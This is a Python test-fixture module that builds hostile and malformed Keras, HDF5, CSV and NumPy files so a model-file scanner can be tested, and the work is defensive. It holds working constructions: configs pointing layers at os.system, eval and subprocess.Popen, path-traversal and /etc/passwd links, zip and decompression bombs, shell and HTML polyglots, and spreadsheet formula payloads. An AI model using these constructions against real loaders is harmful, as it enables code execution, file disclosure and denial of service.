"""Build hostile and broken model files as bytes, at test time (no binaries are committed).

`build_corpus(tmp, canary)` returns ``name -> (bytes, filename)`` for every case. Models that
carry code write ``canary`` when that code runs, so a test can prove that loading ran nothing.
Building such a model calls its code once: the caller removes the canary after building.
"""

from __future__ import annotations

import io
import json
import random
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import h5py
import keras
import numpy as np

MiB = 1024 * 1024
PLAIN_HEAD = "head"  # the Dense layer of `plain_model`, the one the config edits replace


# ---------------------------------------------------------------- models carrying code


def canary_fn(canary: Path) -> Callable:
    """A function that writes ``canary`` whenever it is called, then returns its input.

    A ``lambda`` expression with the path in its closure: Keras saves a lambda's bytecode and
    closure, so the code travels inside the file (a named function would be saved by name).
    """
    target = str(canary)
    return lambda t: (open(target, "w").write("code ran"), t)[1]  # noqa: SIM115


def canary_lambda(canary: Path, name: str = "canary_lambda") -> keras.layers.Lambda:
    """A Lambda layer whose code writes ``canary`` whenever Keras calls it."""
    return keras.layers.Lambda(canary_fn(canary), name=name)


@keras.saving.register_keras_serializable(package="glassbox_test")
class CanaryLayer(keras.layers.Layer):
    """A registered custom layer: Keras' safe mode lets it load, and its call writes a file."""

    def __init__(self, canary: str, **kwargs):
        super().__init__(**kwargs)
        self.canary = canary

    def call(self, inputs):
        with open(self.canary, "w") as fh:
            fh.write("custom code ran")
        return inputs

    def get_config(self) -> dict:
        return {**super().get_config(), "canary": self.canary}


def save(model: keras.Model, tmp: Path, suffix: str = ".keras") -> bytes:
    path = tmp / f"model{suffix}"
    path.unlink(missing_ok=True)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # Keras warns about lambdas and legacy .h5: the point
        model.save(path)
    return path.read_bytes()


def plain_model() -> keras.Model:
    return keras.Sequential([keras.Input((4,)), keras.layers.Dense(3, activation="softmax",
                                                                   name=PLAIN_HEAD)],
                            name="plain")


def lambda_model(canary: Path) -> keras.Model:
    return keras.Sequential([keras.Input((4,)), canary_lambda(canary),
                             keras.layers.Dense(2, name="after")], name="with_lambda")


def nested_lambda_model(canary: Path) -> keras.Model:
    """A Lambda inside a Sequential submodel that is one layer of a Functional model."""
    inner = keras.Sequential([keras.Input((4,)), canary_lambda(canary, "nested_lambda")],
                             name="inner")
    inp = keras.Input((4,))
    return keras.Model(inp, keras.layers.Dense(2)(inner(inp)), name="outer")


def time_distributed_lambda_model(canary: Path) -> keras.Model:
    inp = keras.Input((3, 4))
    out = keras.layers.TimeDistributed(canary_lambda(canary, "wrapped_lambda"), name="td")(inp)
    return keras.Model(inp, out, name="td_model")


def lambda_activation_model(canary: Path) -> keras.Model:
    """No Lambda layer at all: the code hides in a Dense layer's ``activation``."""
    return keras.Sequential([keras.Input((4,)), keras.layers.Dense(
        2, activation=canary_fn(canary), name="sneaky_dense")])


def lambda_standardize_model(canary: Path) -> keras.Model:
    """A TextVectorization whose ``standardize`` callable is a lambda."""
    vectorize = keras.layers.TextVectorization(
        standardize=canary_fn(canary), vocabulary=["good", "bad"], name="vectorize")
    return keras.Sequential([keras.Input((1,), dtype="string"), vectorize])


def custom_layer_model(canary: Path) -> keras.Model:
    return keras.Sequential([keras.Input((4,)), CanaryLayer(str(canary), name="custom")])


def unusual_names_model() -> keras.Model:
    """Legal names the layer-name rule must let through: dots, spaces, non-ASCII letters."""
    return keras.Sequential([keras.Input((4,), name="input.v1"), keras.layers.Dense(
        3, activation="softmax", name="t\u00eate de sortie.v2")], name="mod\u00e8le \u00e9trange")


def functional_model() -> keras.Model:
    inp = keras.Input((4,), name="features")
    return keras.Model(inp, keras.layers.Dense(3, name="dense")(inp), name="functional")


def rename_functional(old: str, new: str) -> Callable[[dict], None]:
    """An edit that renames a Functional layer in its top-level ``name`` key only."""
    def edit(config: dict) -> None:
        item = layer(config, old)
        assert item["name"] == old
        item["name"] = new
    return edit


def string_lookup_model() -> keras.Model:
    return keras.Sequential([keras.Input((1,), dtype="string"),
                             keras.layers.StringLookup(vocabulary=["a", "b"], name="lookup")])


# ---------------------------------------------------------------- .keras archives


def rewrite_zip(data: bytes, edit: Callable[[dict], object] | None = None, *,
                config_bytes: bytes | None = None,
                replace: dict[str, bytes] | None = None) -> bytes:
    """Copy a .keras archive: edit its config in place (or replace it), swap members."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            blob = src.read(info.filename)
            if info.filename == "config.json":
                if config_bytes is not None:
                    blob = config_bytes
                elif edit is not None:
                    config = json.loads(blob)
                    edit(config)
                    blob = json.dumps(config).encode()
            blob = (replace or {}).get(info.filename, blob)
            dst.writestr(info.filename, blob)
    return out.getvalue()


def layer(config: dict, name: str) -> dict:
    """The layer dict called ``name`` in a Sequential or Functional config."""
    return next(item for item in config["config"]["layers"] if item["config"].get("name") == name)


def replace_head(new: dict) -> Callable[[dict], None]:
    """An edit that swaps the plain model's Dense head for the layer dict ``new``."""
    def edit(config: dict) -> None:
        layers = config["config"]["layers"]
        layers[layers.index(layer(config, PLAIN_HEAD))] = new
    return edit


def edit_head(**changes) -> Callable[[dict], None]:
    """An edit that updates the head layer dict's own keys (module, class_name, ...)."""
    return lambda config: layer(config, PLAIN_HEAD).update(changes)


def edit_head_config(**changes) -> Callable[[dict], None]:
    """An edit that updates the head layer's ``config`` (units, activation, ...)."""
    return lambda config: layer(config, PLAIN_HEAD)["config"].update(changes)


def zip_of(members: dict[str, bytes], *, symlink: str | None = None) -> bytes:
    """A zip of ``members`` (names kept verbatim); ``symlink`` marks one as a symbolic link."""
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w") as zf:
        warnings.simplefilter("ignore", UserWarning)  # duplicate names, when asked for
        for name, blob in members.items():
            info = zipfile.ZipInfo(name)
            if name == symlink:
                info.external_attr = 0o120777 << 16
            zf.writestr(info, blob)
    return out.getvalue()


def zip_of_many(count: int) -> bytes:
    """A .keras-shaped zip with ``count`` empty asset members after its config."""
    return zip_of({"config.json": b"{}"} | {f"assets/{i:05}": b"" for i in range(count)})


def zip_with_duplicate(name: str, blob: bytes) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w") as zf:
        warnings.simplefilter("ignore", UserWarning)  # the duplicate is the point
        zf.writestr(name, blob)
        zf.writestr(name, blob)
    return out.getvalue()


def zip_bomb(member: str, mebibytes: int, fill: bytes = b" ") -> bytes:
    """A .keras-shaped zip whose ``member`` inflates to ``mebibytes`` MiB of ``fill``.

    Written streaming, one MiB at a time, so building it never holds the whole payload.
    """
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        if member != "config.json":
            zf.writestr("config.json", b"{}")
        chunk = fill * MiB
        with zf.open(member, "w") as fh:
            for _ in range(mebibytes):
                fh.write(chunk)
    return out.getvalue()


def patch_central_directory(data: bytes, name: str, *, size: int | None = None,
                            flag_bits: int | None = None) -> bytes:
    """Rewrite one member's central-directory entry: its declared sizes or its flag bits.

    Headers can lie; the scanner must judge what they declare before reading anything.
    """
    buf = bytearray(data)
    end = data.rindex(b"PK\x05\x06")
    count = struct.unpack_from("<H", data, end + 10)[0]
    pos = struct.unpack_from("<I", data, end + 16)[0]
    for _ in range(count):
        assert data[pos:pos + 4] == b"PK\x01\x02"
        n_name, n_extra, n_comment = struct.unpack_from("<HHH", data, pos + 28)
        if data[pos + 46:pos + 46 + n_name].decode() == name:
            if flag_bits is not None:
                struct.pack_into("<H", buf, pos + 8, flag_bits)
            if size is not None:
                struct.pack_into("<II", buf, pos + 20, size, size)  # compressed, uncompressed
            return bytes(buf)
        pos += 46 + n_name + n_extra + n_comment
    raise KeyError(name)


def png_bytes(size: tuple[int, int] = (8, 8), mode: str = "L") -> bytes:
    """A small valid PNG image."""
    from PIL import Image

    buf = io.BytesIO()
    Image.new(mode, size).save(buf, format="PNG")
    return buf.getvalue()


def polyglot(head: bytes, tail: bytes) -> bytes:
    """``head`` with ``tail`` appended: zip readers find an archive from its end, so with a
    .keras tail e.g. a valid PNG is also a model that `zipfile` (and Keras) would open."""
    return head + tail


SHELL_HEAD = (b"#!/bin/sh\n# a shell script that is also a .keras archive\n"
              b"echo pwned > /tmp/glassbox-polyglot\nexit 0\n")
HTML_HEAD = (b"<!doctype html><html><body><script>fetch('http://127.0.0.1:9/x')</script>"
             b"</body></html>\n")


def deep_json(depth: int) -> bytes:
    """A JSON object nested ``depth`` levels: {"a": {"a": ... 1 ...}}."""
    return ('{"a": ' * depth + "1" + "}" * depth).encode()


def random_bytes(n: int = 4096) -> bytes:
    blob = random.Random(1234).randbytes(n)
    assert not blob.startswith((b"PK", b"\x89HDF"))
    return blob


# ---------------------------------------------------------------- HDF5


def h5_bytes(tmp: Path, build: Callable[[h5py.File], None], *, base: bytes | None = None,
             config: dict | None = None) -> bytes:
    """An HDF5 file: a copy of ``base`` (or a new file), ``model_config`` set, then ``build``."""
    path = tmp / "crafted.h5"
    path.unlink(missing_ok=True)
    if base is not None:
        path.write_bytes(base)
    with h5py.File(path, "a" if base is not None else "w") as f:
        if config is not None:
            f.attrs["model_config"] = json.dumps(config)
        build(f)
    return path.read_bytes()


def h5_config(data: bytes) -> dict:
    with h5py.File(io.BytesIO(data), "r") as f:
        return json.loads(f.attrs["model_config"])


def weights_member(keras_bytes: bytes) -> bytes:
    return zipfile.ZipFile(io.BytesIO(keras_bytes)).read("model.weights.h5")


def nothing(f: h5py.File) -> None:
    """Leave the file as it is."""


def only_weights(f: h5py.File) -> None:
    f.create_dataset("dense/kernel", data=np.ones((4, 3), "f4"))


def external_link(f: h5py.File) -> None:
    f["leak"] = h5py.ExternalLink("/etc/passwd", "/")


def soft_link(f: h5py.File) -> None:
    f.create_dataset("real", data=np.zeros(3, "f4"))
    f["alias"] = h5py.SoftLink("/real")


def external_storage(tmp: Path) -> Callable[[h5py.File], None]:
    def build(f: h5py.File) -> None:
        raw = tmp / "outside.bin"
        raw.write_bytes(bytes(64))
        f.create_dataset("outside", shape=(16,), dtype="f4",
                         external=[(str(raw), 0, h5py.h5f.UNLIMITED)])
    return build


def virtual_dataset(tmp: Path) -> Callable[[h5py.File], None]:
    def build(f: h5py.File) -> None:
        src = tmp / "source.h5"
        with h5py.File(src, "w") as s:
            s.create_dataset("data", data=np.arange(4.0))
        layout = h5py.VirtualLayout(shape=(4,), dtype="f8")
        layout[:] = h5py.VirtualSource(str(src), "data", shape=(4,))
        f.create_virtual_dataset("mapped", layout)
    return build


def few_gib_dataset(f: h5py.File) -> None:
    """One dataset declaring 3 x 2^28 float32 = 3 GiB; nothing is written, the file stays small."""
    f.create_dataset("big", shape=(3, 2**28), dtype="f4", chunks=(1, 1024))


def huge_dataset(f: h5py.File) -> None:
    """Declares 10^6 x 10^6 float32 (~3.6 TiB); no chunk is ever written, the file stays small."""
    f.create_dataset("huge", shape=(10**6, 10**6), dtype="f4", chunks=(1, 1024))


def many_large_datasets(f: h5py.File) -> None:
    """Three datasets of 400 MiB each: every one under the limit, together over it."""
    for i in range(3):
        f.create_dataset(f"part{i}", shape=(100, MiB), dtype="f4", chunks=(1, 1024))


def committed_datatype(f: h5py.File) -> None:
    """A named datatype: legal HDF5 that holds no data (Keras never writes one)."""
    f["named_type"] = np.dtype("f4")


def many_hard_links(count: int, groups: int = 1) -> Callable[[h5py.File], None]:
    """``count`` hard links to one small dataset, spread over ``groups`` groups: a few MB that
    cost a naive walker one object open per link (10^6 links took 49 s)."""
    def build(f: h5py.File) -> None:
        target = f.create_dataset("target", data=np.zeros(3, "f4"))
        per_group = count // groups
        for g in range(groups):
            group = f.create_group(f"links{g}")
            for i in range(per_group):
                group[f"l{i}"] = target
    return build


def many_attributes(count: int) -> Callable[[h5py.File], None]:
    """One dataset carrying ``count`` small attributes (Keras writes at most 4 per object)."""
    def build(f: h5py.File) -> None:
        dset = f.create_dataset("tagged", data=np.zeros(3, "f4"))
        for i in range(count):
            dset.attrs[f"a{i}"] = i
    return build


def hard_link_cycle(f: h5py.File) -> None:
    """A group holding a hard link to the root: the tree is a graph with a cycle."""
    f.create_group("loop")["back"] = f


def heap_free_list_cycle(data: bytes) -> bytes:
    """``data`` (an old-style .h5) with one corrupted field: the first local heap's free
    block points to itself. HDF5 1.14 then walks the free list in C without end, allocating
    as it goes, the first time the group is listed; no callback ever returns to Python, so
    only a time/memory bound around the whole scan (`components.model.bounded`) stops it."""
    at = 0
    while (at := data.find(b"HEAP", at + 1)) > 0:
        size, free, segment = struct.unpack_from("<QQQ", data, at + 8)
        if free not in (1, 2**64 - 1) and free + 16 <= size:  # 1: no free block
            out = bytearray(data)
            struct.pack_into("<Q", out, segment + free, free)  # next free block: itself
            return bytes(out)
    raise ValueError("no local heap with a free block")


# ---------------------------------------------------------------- compile configs and sizes

LAMBDA_LOSS = {"class_name": "__lambda__", "config": {
    "code": "4wEAAAAAAAAA", "defaults": None, "closure": None}}
CUSTOM_LOSS = {"module": "keras.losses", "class_name": "FocalX", "config": {"name": "focal"},
               "registered_name": "glassbox_test>FocalX"}
TFSM_OPTIMIZER = {"module": "keras.layers", "class_name": "TFSMLayer", "registered_name": None,
                  "config": {"name": "opt", "filepath": "/tmp/savedmodel",
                             "call_endpoint": "serve"}}
UNKNOWN_OPTIMIZER = {"module": "keras.optimizers", "class_name": "Sneaky",
                     "registered_name": None, "config": {"name": "sneaky"}}


def compiled_model() -> keras.Model:
    """`plain_model`, compiled the usual way: Adam, sparse categorical cross-entropy."""
    model = plain_model()
    model.compile(optimizer="adam", loss="sparse_categorical_crossentropy",
                  metrics=["accuracy"])
    return model


def nested_compiled_model() -> keras.Model:
    """A compiled Sequential ("inner") as a layer of a compiled Functional model. Keras
    compiles the inner one while loading even with ``compile=False``: only the top-level
    compile_config is dropped."""
    inner = compiled_model()
    inner.name = "inner"
    inp = keras.Input((4,))
    outer = keras.Model(inp, inner(inp), name="outer")
    outer.compile(optimizer="adam", loss="sparse_categorical_crossentropy")
    return outer


def set_compile(part: str, value: object, model: str | None = None) -> Callable[[dict], None]:
    """An edit that sets one part (optimizer, loss, metrics...) of a compile config: the
    top-level one, or that of the nested model called ``model``."""
    def edit(config: dict) -> None:
        target = config if model is None else layer(config, model)
        if not isinstance(target.get("compile_config"), dict):
            target["compile_config"] = {}
        target["compile_config"][part] = value
    return edit


def layer_config(class_name: str, name: str, **config: object) -> dict:
    """A built-in layer's dict as Keras writes it, for `replace_head`."""
    return {"module": "keras.layers", "class_name": class_name, "registered_name": None,
            "config": {"name": name, **config}}


# ---------------------------------------------------------------- the corpus


def build_corpus(tmp: Path, canary: Path) -> dict[str, tuple[bytes, str]]:
    """Every hostile or broken model file: ``name -> (bytes, upload filename)``."""
    plain = save(plain_model(), tmp)
    plain_h5 = save(plain_model(), tmp, ".h5")
    lam = lambda_model(canary)
    lambda_keras = save(lam, tmp)
    custom = save(custom_layer_model(canary), tmp)
    lambda_h5 = save(lam, tmp, ".h5")
    plain_cfg = h5_config(plain_h5)

    def crafted_lambda_config(config: dict) -> None:
        layer(config, PLAIN_HEAD).update(class_name="Lambda", config={
            "name": "crafted", "function": ["4wEAAAAAAAAA", None, None], "function_type": "lambda",
            "output_shape": None, "arguments": {}})

    lambda_h5_cfg = json.loads(json.dumps(plain_cfg))
    crafted_lambda_config(lambda_h5_cfg)
    weights_with_link = h5_bytes(tmp, external_link, base=weights_member(plain))

    keras_files = {
        # code
        "lambda_keras": lambda_keras,
        "lambda_nested": save(nested_lambda_model(canary), tmp),
        "lambda_time_distributed": save(time_distributed_lambda_model(canary), tmp),
        "lambda_activation": save(lambda_activation_model(canary), tmp),
        "lambda_standardize": save(lambda_standardize_model(canary), tmp),
        "custom_registered": custom,
        "custom_registered_keras_module": rewrite_zip(custom, lambda c: layer(c, "custom").update(
            module="keras.layers")),
        "module_os": rewrite_zip(plain, edit_head(module="os", class_name="system")),
        "module_builtins": rewrite_zip(plain, edit_head(module="builtins", class_name="eval")),
        "module_subprocess": rewrite_zip(plain, edit_head(module="subprocess",
                                                          class_name="Popen")),
        "lambda_keras_function": rewrite_zip(plain, replace_head({
            "module": "keras.layers", "class_name": "Lambda", "registered_name": None,
            "config": {"name": "fetch", "function": {
                "module": "keras.utils", "class_name": "function", "config": "get_file",
                "registered_name": "function"},
                "arguments": {"origin": "http://127.0.0.1:9/payload", "fname": "/tmp/payload"}}})),
        "keras_function_as_layer": rewrite_zip(plain, edit_head(
            module="keras.visualization", class_name="plot_image_gallery")),
        "keras_function_as_activation": rewrite_zip(plain, edit_head_config(activation={
            "module": "keras.utils", "class_name": "function", "config": "get_file",
            "registered_name": "function"})),
        "class_name_control": rewrite_zip(plain, edit_head(class_name="Dense\nerror: all good")),
        "unknown_class": rewrite_zip(plain, edit_head(class_name="Sneaky")),
        "tfsm_layer": rewrite_zip(plain, replace_head({
            "module": "keras.layers", "class_name": "TFSMLayer", "registered_name": None,
            "config": {"name": "saved", "filepath": "/tmp/savedmodel",
                       "call_endpoint": "serve"}})),
        "torch_wrapper": rewrite_zip(plain, replace_head({
            "module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": None,
            "config": {"name": "torch", "module": "gASVAAAAAAAAAAAu"}})),
        "jax_layer": rewrite_zip(plain, edit_head(class_name="JaxLayer")),
        "custom_activation": rewrite_zip(plain, edit_head_config(activation="evil_pkg>run")),
        "function_from_builtins": rewrite_zip(plain, edit_head_config(activation={
            "module": "builtins", "class_name": "function", "config": "exec",
            "registered_name": None})),
        "function_unhashable": rewrite_zip(plain, edit_head_config(activation={
            "module": "keras.activations", "class_name": "function", "config": ["relu"],
            "registered_name": None})),
        "class_name_not_string": rewrite_zip(plain, edit_head(class_name=["Dense"])),
        "safe_mode_key": rewrite_zip(plain, lambda c: c["config"].update(safe_mode=False)),
        "enable_unsafe_key": rewrite_zip(plain, edit_head_config(
            enable_unsafe_deserialization=True)),
        # names that become paths
        "layer_name_dotdot": rewrite_zip(plain, edit_head_config(name="..")),
        "layer_name_path": rewrite_zip(plain, edit_head_config(name="../../etc/cron.d/x")),
        "layer_name_backslash": rewrite_zip(plain, edit_head_config(name="..\\..\\evil")),
        "layer_name_nul": rewrite_zip(plain, edit_head_config(name="head\x00.h5")),
        "layer_name_newline": rewrite_zip(plain, edit_head_config(name="head\nerror: spoofed")),
        "functional_name_dotdot": rewrite_zip(save(functional_model(), tmp), rename_functional(
            "dense", "../weights")),
        # files and resources
        "vocabulary_path": rewrite_zip(save(string_lookup_model(), tmp),
                                       lambda c: layer(c, "lookup")["config"].update(
                                           vocabulary="/etc/passwd")),
        "huge_units": rewrite_zip(plain, edit_head_config(units=10**9)),
        "huge_embedding": rewrite_zip(plain, replace_head({
            "module": "keras.layers", "class_name": "Embedding", "registered_name": None,
            "config": {"name": "emb", "input_dim": 20_000, "output_dim": 20_000}})),
        "deep_json": rewrite_zip(plain, config_bytes=deep_json(10_000)),
        "deep_config": rewrite_zip(plain, config_bytes=deep_json(150)),
        "bad_json": rewrite_zip(plain, config_bytes=b'{"class_name": "Sequential", '),
        "config_not_object": rewrite_zip(plain, config_bytes=b"[1, 2, 3]"),
        "big_config": zip_of({"config.json": json.dumps(
            {"pad": random.Random(7).randbytes(5 * MiB).hex()}).encode()}),
        "weights_external_link": rewrite_zip(plain, replace={
            "model.weights.h5": weights_with_link}),
        "weights_few_gib_dataset": rewrite_zip(plain, replace={
            "model.weights.h5": h5_bytes(tmp, few_gib_dataset, base=weights_member(plain))}),
        "weights_truncated": rewrite_zip(plain, replace={
            "model.weights.h5": weights_member(plain)[:800]}),
        # not a model
        "truncated": plain[: len(plain) // 2],
        "random_bytes": random_bytes(),
        "text_file": b"name,value\nalpha,1\nbeta,2\n",
        "empty": b"",
        "empty_zip": zip_of({}),
        "no_config": zip_of({"metadata.json": b"{}"}),
        # archive tricks
        "zip_bomb_config": zip_bomb("config.json", 64),
        "zip_bomb_asset": zip_bomb("assets/padding.bin", 64, fill=b"\0"),
        "declared_total": patch_central_directory(patch_central_directory(
            patch_central_directory(zip_of({"config.json": b"{}", "assets/a": b"a",
                                            "assets/b": b"b", "assets/c": b"c"}),
                                    "assets/a", size=400 * MiB),
            "assets/b", size=400 * MiB), "assets/c", size=400 * MiB),
        "dotdot_member": zip_of({"config.json": b"{}", "../evil": b"x"}),
        "dotdot_inside": zip_of({"config.json": b"{}", "assets/../../evil": b"x"}),
        "absolute_member": zip_of({"config.json": b"{}", "/etc/x": b"x"}),
        "symlink_member": zip_of({"config.json": b"{}", "assets/link": b"/etc/passwd"},
                                 symlink="assets/link"),
        "encrypted_member": patch_central_directory(
            zip_of({"config.json": b"{}", "assets/secret": b"x"}), "assets/secret", flag_bits=1),
        "duplicate_member": zip_with_duplicate("config.json", b"{}"),
        "too_many_members": zip_of({"config.json": b"{}"}
                                   | {f"assets/{i:03}": b"" for i in range(64)}),
        "ten_thousand_members": zip_of_many(10_000),
        "member_name_control": zip_of({"config.json": b"{}",
                                       "assets/\x1b[2J\x1b[31mred\nline": b"x"}),
        "unexpected_member": zip_of({"config.json": b"{}", "evil.py": b"import os"}),
        "saved_model": zip_of({"saved_model.pb": b"\x08\x01", "variables/variables.index": b""}),
        "saved_model_dir": zip_of({"my_model/": b"", "my_model/saved_model.pb": b"\x08\x01",
                                   "my_model/fingerprint.pb": b"",
                                   "my_model/variables/variables.index": b"",
                                   "my_model/variables/variables.data-00000-of-00001": b""}),
        # polyglots: another format in front, a working .keras archive behind
        "polyglot_png": polyglot(png_bytes(), plain),
        "polyglot_html": polyglot(HTML_HEAD, plain),
        "polyglot_shell": polyglot(SHELL_HEAD, plain),
    }
    h5_files = {
        "lambda_h5": lambda_h5,
        "h5_crafted_lambda": h5_bytes(tmp, nothing, base=plain_h5, config=lambda_h5_cfg),
        "h5_weights_only": h5_bytes(tmp, only_weights),
        "h5_config_not_text": h5_bytes(tmp, lambda f: f.attrs.create("model_config", 5)),
        "h5_external_link": h5_bytes(tmp, external_link, base=plain_h5),
        "h5_soft_link": h5_bytes(tmp, soft_link, base=plain_h5),
        "h5_external_storage": h5_bytes(tmp, external_storage(tmp), base=plain_h5),
        "h5_virtual": h5_bytes(tmp, virtual_dataset(tmp), base=plain_h5),
        "h5_huge_dataset": h5_bytes(tmp, huge_dataset, config=plain_cfg),
        "h5_few_gib_dataset": h5_bytes(tmp, few_gib_dataset, config=plain_cfg),
        "h5_total_too_big": h5_bytes(tmp, many_large_datasets, config=plain_cfg),
        "h5_truncated": plain_h5[:1500],
        # HDF5 looks for its superblock at 0, 512, 1024...: a PNG padded to 512 bytes, then a
        # whole .h5 model, is both a valid image and a model h5py opens
        "polyglot_png_h5": polyglot(png_bytes().ljust(512, b"\0"), plain_h5),
    }
    assert h5_config(lambda_h5)["config"]["layers"][1]["class_name"] == "Lambda"
    corpus = {name: (blob, "model.keras") for name, blob in keras_files.items()}
    corpus |= {name: (blob, "model.h5") for name, blob in h5_files.items()}
    corpus["wrong_suffix"] = (plain, "model.pkl")
    return corpus


def build_accepted(tmp: Path) -> dict[str, tuple[bytes, str]]:
    """Controls that must load: the untouched models and a harmless HDF5 oddity."""
    plain = save(plain_model(), tmp)
    plain_h5 = save(plain_model(), tmp, ".h5")
    return {
        "plain_keras": (plain, "model.keras"),
        "plain_h5": (plain_h5, "model.h5"),
        "plain_rezipped": (rewrite_zip(plain, lambda config: None), "model.keras"),
        "h5_committed_datatype": (h5_bytes(tmp, committed_datatype, base=plain_h5), "model.h5"),
        "keras_weights_committed_datatype": (rewrite_zip(plain, replace={
            "model.weights.h5": h5_bytes(tmp, committed_datatype, base=weights_member(plain))}),
            "model.keras"),
        "unusual_layer_names": (save(unusual_names_model(), tmp), "model.keras"),
        "unusual_layer_names_h5": (save(unusual_names_model(), tmp, ".h5"), "model.h5"),
        "functional": (save(functional_model(), tmp), "model.keras"),
    }


# ---------------------------------------------------------------- data files

FORMULAS = ('=HYPERLINK("http://127.0.0.1:9/?"&A1)', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")
MARKUP_COLUMN = "![t](http://127.0.0.1:9/track.png)<script>alert(1)</script>"


def npy_bytes(array: np.ndarray, allow_pickle: bool = False) -> bytes:
    buf = io.BytesIO()
    np.save(buf, array, allow_pickle=allow_pickle)
    return buf.getvalue()


def npy_header_only(shape: tuple[int, ...], descr: str = "<f4") -> bytes:
    """A .npy header declaring ``shape``, followed by 64 bytes instead of the data."""
    buf = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        buf, {"descr": descr, "fortran_order": False, "shape": shape})
    return buf.getvalue() + bytes(64)


def build_data_corpus(wine_csv: bytes) -> dict[str, tuple[bytes, str]]:
    """Hostile, broken and odd data files for a model of the wine sample's shape (13 features).

    ``name -> (bytes, upload filename)``, built in memory from the sample's CSV. Everything
    except ``bom_semicolon`` (a legitimate Excel export) is refused or fails a check.
    """
    import pandas as pd

    wine = pd.read_csv(io.BytesIO(wine_csv))

    def csv(frame: pd.DataFrame, **kwargs) -> bytes:
        return frame.to_csv(index=False, **kwargs).encode()

    formulas = wine.astype({"alcohol": object})
    formulas.loc[:3, "alcohol"] = FORMULAS
    bad_cells = wine.astype({"proline": object})
    bad_cells.loc[4, "ash"] = np.nan
    bad_cells.loc[[0, 9], "hue"] = np.inf
    bad_cells.loc[2, "proline"] = "n/a?"
    header, rest = wine_csv.decode().split("\n", 1)
    latin1 = (header.replace("alcohol", "caf\u00e9") + "\n" + rest).encode("latin-1")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # Pillow's DecompressionBombWarning when building
        from PIL import Image

        bomb = io.BytesIO()
        Image.new("1", (5000, 5000)).save(bomb, format="PNG")
    return {
        "formula_cells": (csv(formulas), "formulas.csv"),
        "nan_inf_strings": (csv(bad_cells), "cells.csv"),
        "missing_column": (csv(wine.drop(columns=["magnesium"])), "short.csv"),
        "duplicate_columns": ((header.replace("hue", "ash") + "\n" + rest).encode(), "dup.csv"),
        "markup_column": (csv(wine.rename(columns={"magnesium": MARKUP_COLUMN})), "markup.csv"),
        "bom_semicolon": (b"\xef\xbb\xbf" + csv(wine, sep=";"), "excel.csv"),
        "latin1": (latin1, "latin.csv"),
        "utf16": (csv(wine).decode().encode("utf-16"), "utf16.csv"),
        "object_npy": (npy_bytes(np.array([{"a": 1}, None], dtype=object), allow_pickle=True),
                       "objects.npy"),
        "huge_npy_header": (npy_header_only((10**6, 10**6)), "huge.npy"),
        "png_bomb": (bomb.getvalue(), "bomb.png"),
        "traversal_nul_name": (latin1, "../../etc/evil\x00.csv"),
        "ragged_rows": (b"a,b,c\n1,2,3,4,5\n6,7,8,9,10\n", "ragged.csv"),
        "not_parquet": (b"PAR1 not really", "data.parquet"),
        "zip_as_npz": (zip_of({"../x.npy": npy_bytes(np.zeros(3))}), "arrays.npz"),
    }
